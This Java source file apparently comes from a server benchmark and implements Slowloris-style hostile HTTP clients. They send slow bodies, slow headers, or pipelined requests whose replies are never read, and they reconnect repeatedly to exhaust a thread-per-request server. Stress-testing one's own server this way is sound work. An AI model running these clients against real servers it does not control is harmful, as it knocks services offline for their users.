package dev.counter.benchmark;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.Locale;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;

/**
 * Slowloris and related attacks: clients that exhaust a server with a thread per request.
 * They reconnect when they are disconnected.
 */
final class HostileClients implements AutoCloseable {

	private static final int PAUSE_SECONDS = 5;

	private static final int RECEIVE_BUFFER_BYTES = 2048;

	private static final int PIPELINED = 100;

	private static final String POST = "POST %s HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n";

	private static final String ADD = "{\"number\": \"1.5\"}";

	private final InetSocketAddress server;

	private final Attack attack;

	private final byte[] beginning;

	private final ExecutorService threads = Executors.newCachedThreadPool();

	private final Set<Socket> sockets = ConcurrentHashMap.newKeySet();

	/** Kind of attack; a slow client sends a byte every five seconds. */
	enum Attack {

		SLOW_BODIES, SLOW_HEADERS, UNREAD_ANSWERS;

		@Override
		public String toString() {
			return name().toLowerCase(Locale.ROOT).replace('_', ' ');
		}

	}

	/** Creates clients of an endpoint, which they POST an add to or GET. */
	HostileClients(Attack attack, URI address, boolean add) {
		this.server = new InetSocketAddress(address.getHost(), address.getPort());
		this.attack = attack;
		this.beginning = beginning(attack, address.getPath(), add).getBytes(StandardCharsets.US_ASCII);
	}

	void start(int count) {
		for (int client = 0; client < count; client++) {
			this.threads.execute(this::attackRepeatedly);
		}
	}

	private static String beginning(Attack attack, String path, boolean add) {
		String post = POST.formatted(path);
		return switch (attack) {
			case SLOW_BODIES -> post + "Content-Length: 10000\r\n\r\n{";
			case SLOW_HEADERS -> post + "X-Slow: ";
			case UNREAD_ANSWERS -> (add ? post + "Content-Length: " + ADD.length() + "\r\n\r\n" + ADD
					: "GET " + path + " HTTP/1.1\r\nHost: localhost\r\nAccept: text/html\r\n\r\n")
				.repeat(PIPELINED);
		};
	}

	private void attackRepeatedly() {
		try {
			while (!this.threads.isShutdown()) {
				attack();
				TimeUnit.SECONDS.sleep(PAUSE_SECONDS);
			}
		}
		catch (InterruptedException ex) {
			Thread.currentThread().interrupt();
		}
	}

	/** One connection, until the server closes it. */
	private void attack() throws InterruptedException {
		try (Socket socket = new Socket()) {
			this.sockets.add(socket);
			socket.setReceiveBufferSize(RECEIVE_BUFFER_BYTES);
			socket.connect(this.server);
			socket.getOutputStream().write(this.beginning);
			while (!this.threads.isShutdown()) {
				if (this.attack == Attack.UNREAD_ANSWERS) {
					socket.getOutputStream().write(this.beginning);
				}
				else {
					TimeUnit.SECONDS.sleep(PAUSE_SECONDS);
					socket.getOutputStream().write('x');
				}
			}
		}
		catch (IOException ex) {
			this.sockets.removeIf(Socket::isClosed);
		}
	}

	@Override
	public void close() {
		this.threads.shutdownNow();
		for (Socket socket : this.sockets) {
			try {
				socket.close();
			}
			catch (IOException ex) {
				throw new UncheckedIOException(ex);
			}
		}
	}

}
